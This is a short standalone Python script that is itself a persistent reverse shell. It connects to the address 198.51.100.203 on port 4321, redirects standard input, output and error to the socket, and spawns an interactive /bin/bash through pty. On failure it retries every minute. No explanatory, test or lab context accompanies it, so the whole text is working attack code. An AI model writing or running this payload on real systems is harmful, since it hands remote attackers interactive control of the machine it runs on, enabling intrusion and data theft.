import os, pty, socket, time
H, P = "198.51.100.203", 4321
while True:
    try:
        s = socket.create_connection((H, P), timeout=30)
        for fd in (0, 1, 2):
            os.dup2(s.fileno(), fd)
        pty.spawn("/bin/bash")
    except OSError:
        time.sleep(60)
